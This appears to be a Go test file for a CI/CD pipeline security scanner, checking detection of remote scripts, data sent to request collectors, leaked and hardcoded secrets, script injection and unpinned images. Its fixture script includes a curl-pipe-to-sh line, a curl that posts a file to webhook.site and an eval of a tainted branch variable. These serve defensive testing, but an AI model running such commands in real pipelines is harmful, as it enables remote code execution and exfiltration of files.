package pipeline

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"path"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"merlon/internal/document"
	"merlon/internal/finding"
	"merlon/internal/scan"
)

var testRules = LoadRules("cicd/test", "yaml", "")

// parse reads a file whose checks report to the list, as "line rule severity
// confidence", where "-" is what the rule declares.
func parse(t *testing.T, text string) (*File, *[]string) {
	t.Helper()
	found := new([]string)
	f, err := ParseFile("a.yml", []byte(text), testRules, func(r *finding.Rule, got finding.Finding) {
		if got.Location.Path != "a.yml" || got.Message == "" {
			t.Errorf("finding %+v", got)
		}
		*found = append(*found, fmt.Sprintf("%d %s %s %s", got.Location.StartLine, path.Base(r.ID),
			orDash(string(got.Severity)), orDash(string(got.Confidence))))
	})
	if err != nil {
		t.Fatal(err)
	}
	return f, found
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func TestCheckScript(t *testing.T) {
	const text = `script: |
  curl https://example.com/i.sh | sh
  npm install left-pad
  curl -d @file https://webhook.site/0123
  env
  set -x
  eval "$BRANCH"
  eval "$OTHER"
  make
`
	always := []string{"2 remote-script - -", "3 adhoc-packages - -", "4 request-collector - -"}
	for _, c := range []struct {
		name   string
		script Script
		want   []string
	}{
		{"without secrets", Script{}, always},
		{"a secret is named", Script{HasSecret: true},
			append(always[:3:3], "5 secret-in-log - -", "6 secret-in-log - -")},
		{"every secret is in the environment", Script{AllSecrets: true}, append(always[:3:3], "5 secret-in-log - -")},
		{"a tainted variable", Script{Tainted: map[string]string{"BRANCH": "CI_BRANCH"}},
			append(always[:3:3], "7 script-injection high "+string(finding.HighConfidence))},
	} {
		f, found := parse(t, text)
		c.script.Text, c.script.Where = f.Docs[0].Get("script"), "in job a"
		f.CheckScript(c.script)
		if diff := cmp.Diff(c.want, *found); diff != "" {
			t.Errorf("%s (-want +got):\n%s", c.name, diff)
		}
	}
}

func TestCheckImage(t *testing.T) {
	for text, want := range map[string][]string{
		"alpine":                         {"1 unpinned-image - -"},
		"alpine:latest":                  {"1 unpinned-image - -"},
		"ghcr.io/o/n:1.2":                {"1 unpinned-image - " + string(finding.LowConfidence)},
		"ghcr.io/o/n@sha256:0123":        nil,
		"ghcr.io/o/n:$TAG":               nil,
		"":                               nil,
		"registry.example.com:5000/n":    {"1 unpinned-image - -"},
		"registry.example.com:5000/n:v1": {"1 unpinned-image - " + string(finding.LowConfidence)},
	} {
		f, found := parse(t, fmt.Sprintf("image: %q\n", text))
		f.CheckImage(f.Docs[0].Get("image"), "in job a")
		if diff := cmp.Diff(want, *found); diff != "" {
			t.Errorf("%q (-want +got):\n%s", text, diff)
		}
	}
}

func TestCheckSecret(t *testing.T) {
	for _, c := range []struct {
		name, value string
		found       bool
	}{
		{"DB_PASSWORD", "hunter2hunter2", true},
		{"api-key", "a8d7f6e5c4b3", true},
		{"GITHUB_TOKEN", "ghp_0123456789", true},
		{"private_key_prod", "0123456789abcdef", true},
		{"DB_PASSWORD", "$DB_PASSWORD", false},
		{"DB_PASSWORD", "changeme", false},
		{"DB_PASSWORD", "12345", false}, // too short, and most often a placeholder
		{"DB_PASSWORD", "/run/secrets/db", false},
		{"TOKEN_URL", "https://example.com/token", false},
		{"TOKEN", "https://example.com/token", false},
		{"SECRET", "vault:secret/data/app", false},
		{"PASSWORD", "two words here", false},
		{"BRANCH", "a8d7f6e5c4b3", false},
	} {
		f, found := parse(t, fmt.Sprintf("%s: %q\n", c.name, c.value))
		f.CheckSecret(f.Docs[0].Key(c.name), f.Docs[0].Get(c.name), "in job a")
		if (len(*found) > 0) != c.found {
			t.Errorf("%s = %q: %q", c.name, c.value, *found)
		}
	}
	f, found := parse(t, "PASSWORD: [hunter2hunter2]\n")
	f.CheckSecret(f.Docs[0].Key("PASSWORD"), f.Docs[0].Get("PASSWORD"), "")
	f.CheckSecret(nil, nil, "")
	if len(*found) > 0 {
		t.Errorf("a list and nothing are %q", *found)
	}
}

// A finding about a secret must not carry the secret.
func TestSecretIsRedacted(t *testing.T) {
	const secret = "hunter2hunter2"
	var got finding.Finding
	f, err := ParseFile("a.yml", []byte("a: 1\nPASSWORD: "+secret+" # "+secret+"\n"), testRules,
		func(_ *finding.Rule, f finding.Finding) { got = f })
	if err != nil {
		t.Fatal(err)
	}
	f.CheckSecret(f.Docs[0].Key("PASSWORD"), f.Docs[0].Get("PASSWORD"), "in job a")
	if got.Secret == nil || got.Snippet == nil || got.Snippet.StartLine != 2 || got.Identity != "PASSWORD in job a" {
		t.Fatalf("finding %+v", got)
	}
	if text := fmt.Sprintf("%+v %+v %+v", got, *got.Secret, *got.Snippet); strings.Contains(text, secret) {
		t.Errorf("the finding holds the secret: %s", text)
	}
}

func TestNamesSecret(t *testing.T) {
	for text, want := range map[string]bool{`curl -H "$API_TOKEN"`: true, "echo ${DB_PASSWORD}": true,
		"echo $BRANCH": false, "echo password": false, "": false} {
		if got := NamesSecret(text); got != want {
			t.Errorf("NamesSecret(%q) = %v", text, got)
		}
	}
}

// A file that cannot be read is a reason in the status of the scan, never an error
// and never silence.
func TestAnalyzeFile(t *testing.T) {
	broken := errors.New("broken disk")
	for _, c := range []struct {
		name    string
		size    int64
		text    string
		readErr error
		reason  string
		line    int
		checked bool
	}{
		{name: "read", text: "a: 1\n", checked: true},
		{name: "too large", size: int64(Limits.Size) + 1, reason: "too-large"},
		{name: "malformed", text: "a: 1\nb: [\n", reason: "malformed", line: 2},
		{name: "unreadable", readErr: broken},
	} {
		var reasons []scan.Reason
		checked := false
		err := AnalyzeFile(&scan.FilePass{Context: context.Background(), Path: "a.yml", Size: c.size,
			ReadFile: func() ([]byte, error) { return []byte(c.text), c.readErr },
			Reporter: scan.Reporter{Degrade: func(r scan.Reason) { reasons = append(reasons, r) }}},
			testRules, func(*File) { checked = true })
		if !errors.Is(err, c.readErr) || checked != c.checked {
			t.Errorf("%s: error %v, checked %v", c.name, err, checked)
		}
		if c.reason == "" != (len(reasons) == 0) {
			t.Errorf("%s: reasons %+v", c.name, reasons)
		}
		if c.reason != "" && len(reasons) > 0 && (reasons[0].Code != c.reason || reasons[0].Line < c.line ||
			reasons[0].Path != "a.yml" || reasons[0].Message == "") {
			t.Errorf("%s: reason %+v", c.name, reasons[0])
		}
	}
}

func TestReadFile(t *testing.T) {
	var reasons []scan.Reason
	p := &scan.ProjectPass{Context: context.Background(), FS: fstest.MapFS{"a.yml": {Data: []byte("a: 1\n")}},
		Reporter: scan.Reporter{Degrade: func(r scan.Reason) { reasons = append(reasons, r) }}}
	if b, ok := ReadFile(p, scan.File{Path: "a.yml", Size: 5}); !ok || string(b) != "a: 1\n" || len(reasons) > 0 {
		t.Errorf("ReadFile = %q, %v, reasons %+v", b, ok, reasons)
	}
	for code, f := range map[string]scan.File{"unreadable": {Path: "b.yml", Size: 5},
		"too-large": {Path: "a.yml", Size: int64(Limits.Size) + 1}} {
		reasons = nil
		if _, ok := ReadFile(p, f); ok || len(reasons) != 1 || reasons[0].Code != code || reasons[0].Path != f.Path {
			t.Errorf("%s: read %v, reasons %+v", code, ok, reasons)
		}
	}
}

func TestMalformedReason(t *testing.T) {
	for _, c := range []struct {
		err  error
		want scan.Reason
	}{
		{fmt.Errorf("read: %w", &document.Error{Line: 7, Message: "does not end"}),
			scan.Reason{Code: "malformed", Path: "a.yml", Line: 7, Message: "does not end"}},
		{fs.ErrNotExist, scan.Reason{Code: "malformed", Path: "a.yml", Message: "file does not exist"}},
	} {
		if diff := cmp.Diff(c.want, MalformedReason("a.yml", c.err)); diff != "" {
			t.Errorf("%v (-want +got):\n%s", c.err, diff)
		}
	}
}

// The rules of one system come before those that every system has.
func TestLoadRules(t *testing.T) {
	common := len(testRules.All())
	got := LoadRules("cicd/own", "jenkinsfile", `# Own rule

- Rule: own
- Severity: low
- Confidence: high
- CWE: CWE-94

It is one.

## How to fix

Remove it.
`).All()
	if common < 5 || len(got) != common+1 || got[0].ID != "cicd/own/own" || got[1].Language != "jenkinsfile" {
		t.Errorf("%d rules, the common ones are %d; the first is %+v", len(got), common, got[0])
	}
}

func TestShorten(t *testing.T) {
	for text, want := range map[string]string{"a\n  b": "a b", strings.Repeat("ä", 80): strings.Repeat("ä", 80),
		strings.Repeat("ä", 81): strings.Repeat("ä", 79) + "…"} {
		if got := Shorten(text); got != want {
			t.Errorf("Shorten(%q) = %q", text, got)
		}
	}
}
